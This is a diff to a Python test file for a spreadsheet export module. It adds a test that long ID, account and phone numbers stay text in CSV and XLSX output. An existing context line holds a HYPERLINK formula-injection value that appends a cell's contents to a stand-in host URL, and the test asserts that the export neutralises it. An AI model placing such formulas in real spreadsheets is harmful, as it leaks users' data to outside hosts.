@@ -63,3 +63,23 @@ def test_the_person_export_neutralises_an_imported_address(regions, make_user):
     cells = [c for row in sheet.iter_rows() for c in row]
     assert all(c.data_type != "f" for c in cells)
     assert any(c.value == "'" + '=HYPERLINK("http://x/?"&C2,"点击")' for c in cells)
+
+
+def test_long_digit_strings_stay_text_in_csv_and_xlsx():
+    import csv
+    import io
+
+    from openpyxl import load_workbook
+
+    from canlian.platform.exports import Sheet, csv_bytes, xlsx_bytes
+
+    row = ["370502198001011234", "37050219800101123X", "6222021234567890123", "05461234567", "12345", 88]
+    data, _n = csv_bytes(["身份证号", "尾号X", "账号", "电话", "短号", "数"], [row])
+    cells = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))[1]
+    # led by a tab (Excel/WPS: text, not 3.70502E+17) and intact once stripped
+    assert cells[:4] == ["\t370502198001011234", "\t37050219800101123X", "\t6222021234567890123", "\t05461234567"]
+    assert [c.strip() for c in cells[:4]] == row[:4]
+    assert cells[4:] == ["12345", "88"]  # short numbers are left alone
+    book = load_workbook(io.BytesIO(xlsx_bytes([Sheet("s", ["a"] * 6, [row])])[0]))
+    values = [c.value for c in next(book.active.iter_rows(min_row=2))]
+    assert values == row and all(isinstance(v, str) for v in values[:5])
